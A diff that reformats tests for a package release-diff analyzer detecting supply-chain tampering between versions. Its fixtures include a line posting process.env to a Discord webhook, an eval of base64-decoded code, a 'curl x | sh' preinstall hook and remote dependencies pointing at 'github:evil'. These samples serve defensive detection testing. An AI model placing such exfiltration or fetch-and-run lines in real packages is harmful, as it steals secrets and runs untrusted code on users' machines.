@@ -4,7 +4,12 @@ import assert from 'node:assert/strict';
 import { contentFacts } from '../../src/analyzers/content/facts.js';
 import { capabilitySignals } from '../../src/analyzers/release-diff/capability-delta.js';
 import { diffFiles, patchRewriteSignal, sizeJumpSignal, unusualFileSignals } from '../../src/analyzers/release-diff/file-diff.js';
-import { dependencyDelta, dependencySignals, installScriptSignals, remoteSpecKind } from '../../src/analyzers/release-diff/manifest-delta.js';
+import {
+  dependencyDelta,
+  dependencySignals,
+  installScriptSignals,
+  remoteSpecKind,
+} from '../../src/analyzers/release-diff/manifest-delta.js';
 import { scoreRelease, sumWeights } from '../../src/analyzers/release-diff/score.js';
 import { filesOf } from '../helpers/factories.js';
 
@@ -50,7 +55,8 @@ describe('hidden content that appears between releases', () => {
     const b = filesOf({
       'package.json': '{"name":"a","version":"1.0.1"}',
       'data/blob.dat': Buffer.from(Array.from({ length: 8192 }, (_, i) => (i * 2654435761) >>> 24)),
-      'lib/x.js': "module.exports = 1;\nfetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body: JSON.stringify(process.env) });\neval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n",
+      'lib/x.js':
+        "module.exports = 1;\nfetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body: JSON.stringify(process.env) });\neval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n",
     });
     const fd = diffFiles(a, b);
     const sigs = capabilitySignals(contentFacts(a), contentFacts(b), fd.isNewLine);
@@ -59,7 +65,9 @@ describe('hidden content that appears between releases', () => {
     assert.match(by('new-endpoint')[0]?.title ?? '', /discord\.com/);
     assert.equal(by('new-obfuscation')[0]?.evidence[0]?.line, 3);
     assert.match(by('new-obfuscation')[0]?.evidence[0]?.label ?? '', /changed line/);
-    const kinds = by('new-capability').map((s) => s.title.split(' ')[1]).sort();
+    const kinds = by('new-capability')
+      .map((s) => s.title.split(' ')[1])
+      .sort();
     for (const k of ['env-serialize', 'eval', 'network']) assert.ok(kinds.includes(k), kinds.join(','));
     assert.equal(by('new-blob')[0]?.evidence[0]?.file, 'data/blob.dat');
   });
@@ -68,9 +76,19 @@ describe('hidden content that appears between releases', () => {
 describe('files, dependencies, scripts', () => {
   test('files outside the usual folders, size jumps and patch rewrites', () => {
     const a = filesOf({ 'package.json': '{}', 'lib/a.js': 'x'.repeat(1000), 'lib/b.js': 'y', 'lib/c.js': 'z', 'lib/d.js': 'w' });
-    const b = filesOf({ 'package.json': '{}', 'compile.bat': 'curl x', 'payload/x.bin': Buffer.alloc(900_000, 1), 'lib/index.js': 'q', 'dist/e.js': 'e', 'dist/f.js': 'f' });
+    const b = filesOf({
+      'package.json': '{}',
+      'compile.bat': 'curl x',
+      'payload/x.bin': Buffer.alloc(900_000, 1),
+      'lib/index.js': 'q',
+      'dist/e.js': 'e',
+      'dist/f.js': 'f',
+    });
     const s = diffFiles(a, b).summary;
-    assert.deepEqual(unusualFileSignals(a, s).map((x) => x.evidence[0]?.file), ['compile.bat', 'payload/x.bin']);
+    assert.deepEqual(
+      unusualFileSignals(a, s).map((x) => x.evidence[0]?.file),
+      ['compile.bat', 'payload/x.bin'],
+    );
     assert.equal(sizeJumpSignal(s, 'patch').length, 1);
     assert.equal(sizeJumpSignal(s, 'major').length, 0);
     assert.equal(patchRewriteSignal(s, 'patch', '1.0.0', '1.0.1').length, 1);
@@ -80,14 +98,26 @@ describe('files, dependencies, scripts', () => {
     assert.equal(remoteSpecKind('x', '^1.0.0'), undefined);
     assert.equal(remoteSpecKind('x', 'github:evil/x'), 'git');
     assert.equal(remoteSpecKind('x', 'http://203.0.113.9/x.tgz'), 'remote');
-    const d = dependencyDelta({ dependencies: { a: '^1.0.0', b: '^2.0.0' } }, { dependencies: { a: 'git+https://example.invalid/a.git', c: '^1.0.0' }, optionalDependencies: { d: 'http://203.0.113.9/d.tgz' } });
+    const d = dependencyDelta(
+      { dependencies: { a: '^1.0.0', b: '^2.0.0' } },
+      { dependencies: { a: 'git+https://example.invalid/a.git', c: '^1.0.0' }, optionalDependencies: { d: 'http://203.0.113.9/d.tgz' } },
+    );
     assert.deepEqual(Object.keys(d.added).sort(), ['c', 'd']);
     assert.deepEqual(d.removed, { b: '^2.0.0' });
-    const sig = dependencySignals(d, 'package.json', 'patch').map((s) => `${s.rule}:${s.evidence[0]?.label}`).sort();
-    assert.deepEqual(sig, ['release-diff/new-dependency:dependency c', 'release-diff/remote-dependency:dependency a', 'release-diff/remote-dependency:dependency d']);
+    const sig = dependencySignals(d, 'package.json', 'patch')
+      .map((s) => `${s.rule}:${s.evidence[0]?.label}`)
+      .sort();
+    assert.deepEqual(sig, [
+      'release-diff/new-dependency:dependency c',
+      'release-diff/remote-dependency:dependency a',
+      'release-diff/remote-dependency:dependency d',
+    ]);
   });
   test('install script added vs changed carry the text before and after', () => {
-    const s = installScriptSignals({ postinstall: 'node-gyp rebuild' }, { postinstall: 'node-gyp rebuild && node x.js', preinstall: 'curl x | sh' });
+    const s = installScriptSignals(
+      { postinstall: 'node-gyp rebuild' },
+      { postinstall: 'node-gyp rebuild && node x.js', preinstall: 'curl x | sh' },
+    );
     const changed = s.find((x) => x.rule === 'release-diff/install-script-changed');
     assert.equal(changed?.evidence[0]?.before, 'node-gyp rebuild');
     assert.equal(changed?.evidence[0]?.after, 'node-gyp rebuild && node x.js');
